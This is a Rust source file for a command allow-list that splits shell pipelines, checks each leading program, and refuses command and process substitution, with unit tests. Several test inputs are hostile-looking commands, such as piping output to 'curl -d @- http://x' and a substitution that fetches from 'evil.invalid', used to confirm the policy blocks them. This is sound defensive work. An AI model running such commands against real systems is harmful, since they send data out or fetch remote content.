//! Program allow-list applied to resolved commands before they reach the shell.

use std::collections::BTreeSet;

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PolicyError {
    #[error("program '{program}' is not in the allow-list")]
    Denied { program: String },

    #[error("command substitution is not allowed under an allow-list")]
    CommandSubstitution,
}

/// Allow-list of programs a rule command may start.
///
/// An empty list allows everything. Otherwise the leading program of every
/// pipeline or sequence segment must be listed, and `$(..)` or backtick
/// substitution is refused since it would start unlisted programs.
#[derive(Debug, Clone, Default)]
pub struct ExecPolicy {
    allowed: BTreeSet<String>,
}

impl ExecPolicy {
    /// Policy that allows any program.
    pub fn permissive() -> Self {
        Self::default()
    }

    pub fn allow_list<I, S>(programs: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        Self {
            allowed: programs.into_iter().map(Into::into).collect(),
        }
    }

    pub fn is_permissive(&self) -> bool {
        self.allowed.is_empty()
    }

    pub fn check(&self, command: &str) -> Result<(), PolicyError> {
        if self.is_permissive() {
            return Ok(());
        }
        if has_command_substitution(command) {
            return Err(PolicyError::CommandSubstitution);
        }
        for program in leading_programs(command) {
            if !self.allowed.contains(program) {
                return Err(PolicyError::Denied {
                    program: program.to_string(),
                });
            }
        }
        Ok(())
    }
}

/// Leading program (basename) of each `|`, `||`, `&&`, `;` or newline
/// separated segment. Separators inside quotes are ignored.
pub fn leading_programs(command: &str) -> Vec<&str> {
    segments(command)
        .into_iter()
        .filter_map(segment_program)
        .collect()
}

fn segments(command: &str) -> Vec<&str> {
    let bytes = command.as_bytes();
    let mut out = Vec::new();
    let mut start = 0;
    let mut quote: Option<u8> = None;
    let mut i = 0;

    while i < bytes.len() {
        let b = bytes[i];
        match quote {
            Some(b'"') if b == b'\\' => i += 1,
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None => match b {
                b'\'' | b'"' => quote = Some(b),
                b'\\' => i += 1,
                b'&' if is_redirection(bytes, i) => {}
                b'|' | b';' | b'\n' | b'&' => {
                    out.push(&command[start..i]);
                    if matches!(b, b'|' | b'&') && bytes.get(i + 1) == Some(&b) {
                        i += 1;
                    }
                    start = i + 1;
                }
                _ => {}
            },
        }
        i += 1;
    }
    if start <= command.len() {
        out.push(&command[start..]);
    }
    out
}

/// `2>&1`, `<&3` and `&>file` use `&` without starting a new command.
fn is_redirection(bytes: &[u8], i: usize) -> bool {
    let prev = i.checked_sub(1).map(|p| bytes[p]);
    matches!(prev, Some(b'>') | Some(b'<')) || bytes.get(i + 1) == Some(&b'>')
}

/// True if `command` contains `$(..)` or backticks outside single quotes, or
/// `<(..)`/`>(..)` process substitution outside any quotes.
fn has_command_substitution(command: &str) -> bool {
    let bytes = command.as_bytes();
    let mut quote: Option<u8> = None;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        let next = bytes.get(i + 1);
        match quote {
            Some(b'\'') if b == b'\'' => quote = None,
            Some(b'\'') => {}
            Some(_) => match b {
                b'"' => quote = None,
                b'\\' => i += 1,
                b'`' => return true,
                b'$' if next == Some(&b'(') => return true,
                _ => {}
            },
            None => match b {
                b'\'' | b'"' => quote = Some(b),
                b'\\' => i += 1,
                b'`' => return true,
                b'$' | b'<' | b'>' if next == Some(&b'(') => return true,
                _ => {}
            },
        }
        i += 1;
    }
    false
}

fn segment_program(segment: &str) -> Option<&str> {
    segment
        .trim_start_matches(|c: char| c.is_whitespace() || c == '(' || c == '{')
        .split_whitespace()
        // Skip `VAR=value` prefixes.
        .find(|word| !is_assignment(word))
        .map(|word| word.rsplit('/').next().unwrap_or(word))
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_pipelines_and_sequences() {
        let cmd = r#"cut -d, -f3 "a.csv" | sort | uniq -c && echo done; /usr/bin/wc -l x || true"#;
        assert_eq!(
            leading_programs(cmd),
            vec!["cut", "sort", "uniq", "echo", "wc", "true"]
        );
    }

    #[test]
    fn separators_inside_quotes_are_ignored() {
        let cmd = r#"awk -F, '{print $1 | "sort"}' "f.csv"; grep "a;b" f"#;
        assert_eq!(leading_programs(cmd), vec!["awk", "grep"]);
    }

    #[test]
    fn env_assignments_and_subshells_are_skipped() {
        assert_eq!(leading_programs("LC_ALL=C sort f"), vec!["sort"]);
        assert_eq!(leading_programs("(head -n1 f)"), vec!["head"]);
    }

    #[test]
    fn permissive_policy_allows_anything() {
        assert!(ExecPolicy::permissive().check("rm -rf /tmp/x").is_ok());
    }

    #[test]
    fn allow_list_denies_unlisted_segment() {
        let policy = ExecPolicy::allow_list(["awk", "sort", "uniq"]);
        assert!(policy.check("awk '{print $1}' f | sort | uniq -c").is_ok());
        assert_eq!(
            policy.check("awk '{print}' f | curl -d @- http://x"),
            Err(PolicyError::Denied {
                program: "curl".to_string()
            })
        );
    }

    #[test]
    fn background_ampersand_separates_but_redirection_does_not() {
        assert_eq!(leading_programs("sleep 1 & wait"), vec!["sleep", "wait"]);
        assert_eq!(leading_programs("grep x f 2>&1 | wc -l"), vec!["grep", "wc"]);
    }

    #[test]
    fn escaped_quote_inside_double_quotes() {
        assert_eq!(leading_programs(r#"echo "a\"|b" | wc"#), vec!["echo", "wc"]);
    }

    #[test]
    fn allow_list_refuses_command_substitution() {
        let policy = ExecPolicy::allow_list(["echo"]);
        assert_eq!(policy.check("echo $(id)"), Err(PolicyError::CommandSubstitution));
        assert_eq!(policy.check("echo `id`"), Err(PolicyError::CommandSubstitution));
        assert!(policy.check("echo '$(literal)'").is_ok());
    }

    #[test]
    fn single_quote_inside_double_quotes_is_literal() {
        let policy = ExecPolicy::allow_list(["echo"]);
        assert_eq!(
            policy.check(r#"echo "it's" $(curl http://evil.invalid)"#),
            Err(PolicyError::CommandSubstitution)
        );
        assert_eq!(
            policy.check(r#"echo "it's `id`""#),
            Err(PolicyError::CommandSubstitution)
        );
        assert!(policy.check(r#"echo "it's fine""#).is_ok());
    }

    #[test]
    fn allow_list_refuses_process_substitution() {
        let policy = ExecPolicy::allow_list(["diff", "sort"]);
        assert_eq!(
            policy.check("diff <(sort a) >(sort b)"),
            Err(PolicyError::CommandSubstitution)
        );
        assert!(policy.check("diff '<(a)' \"b\"").is_ok());
    }
}
